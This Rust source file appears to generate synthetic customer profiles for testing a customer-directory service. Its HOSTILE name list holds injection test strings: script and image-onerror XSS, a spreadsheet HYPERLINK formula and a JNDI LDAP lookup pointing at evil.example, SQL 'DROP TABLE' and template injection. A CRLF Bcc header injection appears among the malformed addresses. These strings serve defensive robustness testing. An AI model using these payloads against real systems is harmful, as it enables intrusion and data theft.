//! Customer profiles.

use serde_json::{Value, json};

use super::table::Row;
use crate::clock;
use crate::rng::Rng;

/// What a profile is good for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Reach {
    Good,
    NoEmail,
    BadEmail,
    /// Nothing public on the profile: found by id only.
    Hidden,
}

#[derive(Debug, Clone)]
pub(crate) struct Person {
    pub(crate) id: String,
    pub(crate) given: String,
    pub(crate) family: String,
    pub(crate) email: Option<String>,
    phone: Option<String>,
    company: Option<&'static str>,
    pub(crate) reach: Reach,
    pub(crate) unsubscribed: bool,
    pub(super) origin: &'static str,
    /// The profiles this one was merged from: their ids no longer resolve.
    pub(super) sources: Vec<String>,
    pub(crate) created: i64,
    pub(crate) updated: i64,
}

const GIVEN: [&str; 24] = [
    "Zoé",
    "Léa",
    "Chloé",
    "Inès",
    "Noël",
    "Hugo",
    "Émile",
    "Maëlys",
    "Søren",
    "Łukasz",
    "Jürgen",
    "Ana",
    "José",
    "Nguyễn",
    "太郎",
    "花子",
    "Олена",
    "Ελένη",
    "Siobhán",
    "O’Neil",
    "Mary Ann",
    "Ÿves",
    "Aïcha",
    "李",
];
const FAMILY: [&str; 20] = [
    "Martin",
    "Lefèvre",
    "d’Arcy",
    "de la Fontaine",
    "García",
    "Müller",
    "Østergård",
    "Nowak",
    "Kovács",
    "Şahin",
    "佐藤",
    "鈴木",
    "Шевченко",
    "Παπαδόπουλος",
    "O'Brien",
    "Smith-Jones",
    "Nguyễn",
    "Costa",
    "Ndiaye",
    "Dubois",
];
/// What no account takes as an address.
const MALFORMED: [&str; 10] = [
    "no-at-sign.example.org",
    "two@@example.org",
    "@example.org",
    "blank in@example.org",
    "dots@example..org",
    "broken@example.org\r\nBcc: all@example.org",
    "\"quoted local\"@example.org",
    "Name <angle@example.org>",
    "nowhere@localhost",
    "a-local-part-that-is-longer-than-the-sixty-four-characters-allowed@example.org",
];
/// Names that have broken pages, spreadsheets, shells and logs.
const HOSTILE: [&str; 17] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab",
    "Robert'); DROP TABLE students;--",
    "\u{202e}desrever",
    "Zo\u{200b}é",
    "👩‍👩‍👧‍👦",
    "   ",
    "Line\r\nBreak: x",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "a\u{0}b",
    "\\\"quoted\\\"",
    "null",
];

pub(crate) fn make(rng: &mut Rng, count: usize, now: i64) -> Vec<Person> {
    let mut people: Vec<Person> = Vec::with_capacity(count);
    let mut odd = 0;
    for index in 0..count {
        let roll = rng.below(1000);
        // The first profiles take one of each kind, so that small shops have them too.
        let reach = match (index, roll) {
            (3, _) | (_, 0..20) => Reach::NoEmail,
            (5, _) | (_, 20..25) => Reach::BadEmail,
            (7, _) | (_, 25..29) => Reach::Hidden,
            _ => Reach::Good,
        };
        let mut person = one(rng, index, reach, now);
        if reach == Reach::Good {
            if matches!(index, 9 | 11) || rng.per_mille(10) {
                person.share_address(rng, &people, index == 11);
            }
            if index == 13 || rng.per_mille(15) {
                odd += 1;
                person.spell_oddly(odd, index);
            }
            if index == 15 || rng.per_mille(8) {
                person.origin = "MERGE";
                person.sources = (0..2).map(|_| rng.id("", 26).to_ascii_uppercase()).collect();
            }
        }
        people.push(person);
    }
    people
}

fn one(rng: &mut Rng, index: usize, reach: Reach, now: i64) -> Person {
    let created = now - rng.between(15 * clock::MINUTE, 430 * clock::DAY);
    let updated = if rng.per_mille(300) { rng.between(created, now - 10 * clock::MINUTE) } else { created };
    let email = match reach {
        Reach::Good => Some(address(rng, index)),
        Reach::BadEmail => Some(MALFORMED[rng.index(MALFORMED.len())].to_owned()),
        Reach::NoEmail | Reach::Hidden => None,
    };
    Person {
        id: rng.id("", 26).to_ascii_uppercase(),
        given: GIVEN[rng.index(GIVEN.len())].to_owned(),
        family: FAMILY[rng.index(FAMILY.len())].to_owned(),
        email,
        phone: rng.per_mille(700).then(|| format!("+336{:08}", rng.below(100_000_000))),
        company: rng.per_mille(60).then_some("Société Générale d’Essais"),
        reach,
        unsubscribed: rng.per_mille(80),
        origin: if reach == Reach::Hidden { "INSTANT_PROFILE" } else { "DIRECTORY" },
        sources: Vec::new(),
        created,
        updated,
    }
}

fn address(rng: &mut Rng, index: usize) -> String {
    let host = ["example.org", "example.com", "mail.example.net", "a-b.example"][rng.index(4)];
    match rng.index(12) {
        0 => format!("client+{index}@{host}"),
        1 => format!("Client.{index}@{host}"),
        _ => format!("client{index}@{host}"),
    }
}

impl Person {
    /// The address of somebody before, as it is or in capitals: Square does not mind.
    fn share_address(&mut self, rng: &mut Rng, people: &[Person], out: bool) {
        let twin = people.iter().rev().take(12).find(|p| p.reach == Reach::Good);
        let Some(email) = twin.and_then(|p| p.email.as_ref()) else { return };
        let capitals = out || rng.per_mille(500);
        self.email = Some(if capitals { email.to_uppercase() } else { email.clone() });
        self.unsubscribed |= out;
    }

    /// A name nobody has, and now and then an address that is odd and good.
    fn spell_oddly(&mut self, turn: usize, index: usize) {
        HOSTILE[turn % HOSTILE.len()].clone_into(&mut self.given);
        HOSTILE[turn * 7 % HOSTILE.len()].clone_into(&mut self.family);
        match turn % 5 {
            0 => self.email = Some(format!("o'brien+{index}@example.org")),
            1 => self.email = Some(format!("a!#$%&'*+/=?^_`{{|}}~-{index}@example.org")),
            2 => self.email = Some(format!("idn{index}@xn--bcher-kva.example")),
            3 => self.given = "x".repeat(300),
            _ => self.phone = Some("06 12 34 56 78 (maman)".to_owned()),
        }
    }

    pub(super) fn row(&self) -> Row {
        Row {
            id: self.id.clone(),
            created: self.created,
            updated: self.updated,
            version: Some(1),
            listed: self.reach != Reach::Hidden,
            bytes: self.json().to_string().into_bytes(),
            ..Row::default()
        }
    }

    pub(crate) fn json(&self) -> Value {
        let mut out = json!({
            "id": self.id, "created_at": clock::rfc3339(self.created), "updated_at": clock::rfc3339(self.updated),
            "preferences": {"email_unsubscribed": self.unsubscribed},
            "creation_source": self.origin,
            "version": 1,
        });
        if self.reach == Reach::Hidden {
            return out;
        }
        let members = [
            ("given_name", Some(self.given.as_str())),
            ("family_name", Some(self.family.as_str())),
            ("email_address", self.email.as_deref()),
            ("phone_number", self.phone.as_deref()),
            ("company_name", self.company),
        ];
        for (name, value) in members {
            if let Some(value) = value {
                out[name] = Value::from(value);
            }
        }
        out
    }
}
